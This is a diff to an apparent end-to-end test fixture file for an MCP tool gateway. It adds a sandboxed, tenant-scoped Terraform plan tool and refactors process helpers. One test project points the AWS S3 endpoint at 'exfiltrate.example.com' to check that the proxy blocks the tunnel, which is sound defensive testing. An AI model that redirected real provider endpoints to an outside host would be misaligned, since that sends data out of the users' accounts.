@@ -27,11 +27,10 @@ test's report carries the tail of the gateway log and the last exchanges on the 
 from __future__ import annotations
 
 import asyncio
-import ctypes
 import json
 import os
+import shutil
 import signal
-import socket
 import subprocess
 import sys
 import time
@@ -44,6 +43,7 @@ import pytest
 sys.path.insert(0, str(Path(__file__).parent))
 
 import awswire  # noqa: E402
+from procs import clean_env, dev_token, die_with_parent, free_port, tail  # noqa: E402
 from recproxy import RecordingProxy  # noqa: E402
 
 REGION = "us-east-1"
@@ -61,6 +61,68 @@ SECRET_PERMISSIONS = [
         "resources": ["arn:aws:secretsmanager:*:*:secret:switchboard/${aws:PrincipalTag/tenant}/*"],
     }
 ]
+# The reference tool terraform_plan in the gateway's sandbox: terraform and the provider mirror of
+# scripts/terraform-kit, the tenants' projects of a copy of examples/tenants, STS and S3 only.
+TERRAFORM_TOOL = "terraform_plan"
+TERRAFORM_WORK_ROLE = "switchboard-e2e-terraform-plan-work"
+TERRAFORM_PERMISSIONS = [
+    {"sid": "WhoAmI", "actions": ["sts:GetCallerIdentity"], "resources": ["*"]},
+    {
+        "sid": "ReadTenantBuckets",
+        "actions": ["s3:GetBucketLocation", "s3:ListBucket"],
+        "resources": ["arn:aws:s3:::${aws:PrincipalTag/tenant}-*"],
+    },
+]
+REPO = Path(__file__).resolve().parents[3]
+_AWS_PROVIDER = """terraform {
+  required_providers {
+    aws = {
+      source  = "hashicorp/aws"
+      version = "~> 5.0"
+    }
+  }
+}
+"""
+# Projects of the suite's own, beside the shipped examples in its copy of examples/tenants.
+TEST_PROJECTS = {
+    # Needs a provider that is not in the mirror: init fails at once, naming it.
+    "acme/projects/needs-random/main.tf": """terraform {
+  required_providers {
+    random = { source = "hashicorp/random" }
+  }
+}
+resource "random_id" "suffix" {
+  byte_length = 4
+}
+""",
+    # Points the provider at a host no endpoint declares: the proxy refuses the tunnel.
+    "acme/projects/elsewhere/main.tf": _AWS_PROVIDER
+    + """provider "aws" {
+  s3_use_path_style = true
+  endpoints {
+    s3 = "https://exfiltrate.example.com"
+  }
+}
+data "aws_s3_bucket" "probe" {
+  bucket = "acme-probe"
+}
+""",
+}
+# As examples/catalog.yaml declares it.
+TERRAFORM_INPUT_SCHEMA = {
+    "type": "object",
+    "properties": {
+        "project": {"type": "string", "pattern": "^[A-Za-z0-9][A-Za-z0-9._-]{0,63}$"},
+        "variables": {
+            "type": "object",
+            "maxProperties": 64,
+            "propertyNames": {"pattern": "^[A-Za-z_][A-Za-z0-9_-]{0,63}$"},
+            "additionalProperties": {"type": ["string", "number", "boolean"], "maxLength": 4096},
+        },
+    },
+    "required": ["project"],
+    "additionalProperties": False,
+}
 EXEC_ROLE = "switchboard-e2e-exec"
 SUBJECT = "alice@example.com"
 TENANT = "acme"
@@ -130,6 +192,7 @@ class Settings:
     aws_cli: Path
     switchboard: Path
     tool_bin: Path
+    terraform_kit: Path
     tools_zip: Path
     probe_zip: Path
     run_dir: Path
@@ -157,26 +220,11 @@ def settings(tmp_path_factory) -> Settings:
         aws_cli=Path(_required("AWS_CLI", is_path=True)),
         switchboard=Path(_required("SWITCHBOARD_BIN", is_path=True)),
         tool_bin=Path(_required("SWITCHBOARD_TOOL_BIN", is_path=True)).resolve(),
+        terraform_kit=Path(_required("TERRAFORM_KIT", is_path=True)),
         tools_zip=Path(_required("LAMBDA_TOOLS_ZIP", is_path=True)).resolve(),
         probe_zip=Path(_required("LAMBDA_PROBE_ZIP", is_path=True)).resolve(),
         run_dir=path,
     )
-
-
-def clean_env(**extra: str) -> dict[str, str]:
-    """The environment without any AWS or Switchboard setting of the caller's, plus `extra`."""
-    env = {
-        k: v
-        for k, v in os.environ.items()
-        if not k.startswith("AWS_") and not k.startswith("SWITCHBOARD_") and k != "RUST_LOG"
-    }
-    env.update(
-        AWS_CONFIG_FILE=os.devnull,
-        AWS_SHARED_CREDENTIALS_FILE=os.devnull,
-        AWS_EC2_METADATA_DISABLED="true",
-    )
-    env.update(extra)
-    return env
 
 
 # --- the aws CLI, straight at LocalStack -------------------------------------------------------
@@ -218,6 +266,7 @@ class Deployment:
     work_role_arn: str
     local_work_role_arn: str
     secret_work_role_arn: str
+    terraform_work_role_arn: str
     exec_role_arn: str
     function_arns: dict[str, str]  # by tool
 
@@ -248,6 +297,7 @@ def deployment(aws, settings):
     work_role = ensure_role(aws, WORK_ROLE, TRUST_ANY)
     local_work_role = ensure_role(aws, LOCAL_WORK_ROLE, TRUST_ANY)
     secret_work_role = ensure_role(aws, SECRET_WORK_ROLE, TRUST_ANY)
+    terraform_work_role = ensure_role(aws, TERRAFORM_WORK_ROLE, TRUST_ANY)
     exec_role = ensure_role(aws, EXEC_ROLE, TRUST_LAMBDA)
     arns = {}
     try:
@@ -273,6 +323,7 @@ def deployment(aws, settings):
             work_role_arn=work_role,
             local_work_role_arn=local_work_role,
             secret_work_role_arn=secret_work_role,
+            terraform_work_role_arn=terraform_work_role,
             exec_role_arn=exec_role,
             function_arns=arns,
         )
@@ -308,12 +359,6 @@ def proxy(settings):
 
 
 # --- the gateway ------------------------------------------------------------------------------
-
-
-def free_port() -> int:
-    with socket.socket() as s:
-        s.bind(("127.0.0.1", 0))
-        return s.getsockname()[1]
 
 
 def catalog_document(settings: Settings) -> dict:
@@ -367,6 +412,28 @@ def catalog_document(settings: Settings) -> dict:
             "permissions": SECRET_PERMISSIONS,
         }
     )
+    tools.append(
+        {
+            "name": TERRAFORM_TOOL,
+            "description": "Plans a Terraform project of the caller's tenant, read-only.",
+            "input_schema": TERRAFORM_INPUT_SCHEMA,
+            "backend": "local",
+            "local": {
+                "command": [str(settings.tool_bin), "terraform_plan"],
+                "tenant_root": str(settings.run_dir / "tenants"),
+                "read_only_paths": [
+                    {"path": str(settings.terraform_kit / "terraform"), "at": "/opt/switchboard/terraform/terraform"},
+                    {"path": str(settings.terraform_kit / "providers"), "at": "/opt/switchboard/terraform/providers"},
+                ],
+            },
+            "endpoints": ["sts", "s3"],
+            "timeout_seconds": 120,
+            "memory_mb": 1536,
+            "ephemeral_storage_mb": 64,
+            "allow": {"groups": [GROUP]},
+            "permissions": TERRAFORM_PERMISSIONS,
+        }
+    )
     return {"version": 1, "tools": tools}
 
 
@@ -386,28 +453,25 @@ def bindings_document(deployment: Deployment) -> dict:
     # What infra/examples writes for a local tool with permissions: only its work role.
     local_tool = {"backend": "local", "work_role_arn": deployment.local_work_role_arn, "session_tags": SESSION_TAGS}
     secret_tool = {"backend": "local", "work_role_arn": deployment.secret_work_role_arn, "session_tags": SESSION_TAGS}
+    terraform_tool = {
+        "backend": "local",
+        "work_role_arn": deployment.terraform_work_role_arn,
+        "session_tags": SESSION_TAGS,
+    }
     return {
         "version": 1,
         "region": REGION,
         "account_id": ACCOUNT,
         "gateway_role_arn": None,
         "invocation_bucket": None,
-        "local_tools": [LOCAL_TOOL, SECRET_TOOL],
-        "tools": {**lambda_tools, LOCAL_TOOL: local_tool, SECRET_TOOL: secret_tool},
+        "local_tools": [LOCAL_TOOL, SECRET_TOOL, TERRAFORM_TOOL],
+        "tools": {
+            **lambda_tools,
+            LOCAL_TOOL: local_tool,
+            SECRET_TOOL: secret_tool,
+            TERRAFORM_TOOL: terraform_tool,
+        },
     }
-
-
-def _die_with_parent() -> None:
-    """In the child before exec: SIGTERM when pytest dies, however it dies."""
-    PR_SET_PDEATHSIG = 1
-    ctypes.CDLL(None, use_errno=True).prctl(PR_SET_PDEATHSIG, signal.SIGTERM)
-
-
-def tail(path: Path | None, lines: int = 60) -> str:
-    if path is None or not path.exists():
-        return "(no log)"
-    text = path.read_text(errors="replace").splitlines()
-    return "\n".join(text[-lines:])
 
 
 @dataclass
@@ -432,6 +496,12 @@ def gateway(settings, deployment, proxy):
     audit = run / "audit.jsonl"
     for stale in (log, audit):
         stale.unlink(missing_ok=True)
+    tenants = run / "tenants"
+    shutil.rmtree(tenants, ignore_errors=True)
+    shutil.copytree(REPO / "examples" / "tenants", tenants)
+    for relative, text in TEST_PROJECTS.items():
+        (tenants / relative).parent.mkdir(parents=True, exist_ok=True)
+        (tenants / relative).write_text(text)
     # JSON is YAML: no YAML library needed.
     catalog.write_text(json.dumps(catalog_document(settings), indent=2))
     bindings.write_text(json.dumps(bindings_document(deployment), indent=2))
@@ -442,7 +512,7 @@ def gateway(settings, deployment, proxy):
         AWS_ENDPOINT_URL=proxy.url,
         # The local tool's sts endpoint: its tunnel goes to the recording proxy too.
         SWITCHBOARD_LOCAL_ENDPOINTS=",".join(
-            f"{name}={proxy.url.removeprefix('http://')}" for name in ("sts", "secretsmanager")
+            f"{name}={proxy.url.removeprefix('http://')}" for name in ("sts", "s3", "secretsmanager")
         ),
         AWS_ACCESS_KEY_ID="test",
         AWS_SECRET_ACCESS_KEY="test",
@@ -461,7 +531,7 @@ def gateway(settings, deployment, proxy):
     _gateway_log = log
     with open(log, "wb") as out:
         process = subprocess.Popen(
-            command, env=env, stdin=subprocess.DEVNULL, stdout=out, stderr=out, preexec_fn=_die_with_parent
+            command, env=env, stdin=subprocess.DEVNULL, stdout=out, stderr=out, preexec_fn=die_with_parent
         )
     try:
         deadline = time.monotonic() + 30
@@ -481,22 +551,13 @@ def gateway(settings, deployment, proxy):
             if time.monotonic() > deadline:
                 pytest.fail(f"switchboard serve did not answer /healthz within 30 s; its log:\n{tail(log)}")
             time.sleep(0.2)
-        minted = subprocess.run(
-            [
-                str(settings.switchboard), "dev-token",
-                "--sub", SUBJECT, "--group", GROUP, "--tenant", TENANT,
-                "--audience", f"{base}/mcp", "--dev-key", str(dev_key),
-            ],  # fmt: skip
-            env=clean_env(),
-            capture_output=True,
-            text=True,
-            timeout=30,
+        token = dev_token(
+            settings.switchboard, sub=SUBJECT, group=GROUP, tenant=TENANT, audience=f"{base}/mcp", dev_key=dev_key
         )
-        assert minted.returncode == 0, f"switchboard dev-token failed: {minted.stderr}"
         yield Gateway(
             base=base,
             mcp=f"{base}/mcp",
-            token=minted.stdout.strip(),
+            token=token,
             log=log,
             audit=audit,
             process=process,
@@ -530,19 +591,14 @@ class E2E:
 
     def token_for(self, tenant: str) -> str:
         """A dev token like the suite's own, for another tenant."""
-        minted = subprocess.run(
-            [
-                str(self.settings.switchboard), "dev-token",
-                "--sub", SUBJECT, "--group", GROUP, "--tenant", tenant,
-                "--audience", self.gateway.mcp, "--dev-key", str(self.gateway.dev_key),
-            ],  # fmt: skip
-            env=clean_env(),
-            capture_output=True,
-            text=True,
-            timeout=30,
+        return dev_token(
+            self.settings.switchboard,
+            sub=SUBJECT,
+            group=GROUP,
+            tenant=tenant,
+            audience=self.gateway.mcp,
+            dev_key=self.gateway.dev_key,
         )
-        assert minted.returncode == 0, f"switchboard dev-token failed: {minted.stderr}"
-        return minted.stdout.strip()
 
     def call(self, tool: str, arguments: dict | None = None, token: str | None = None):
         """One tools/call through the official MCP SDK (2.x, Streamable HTTP, bearer token)."""
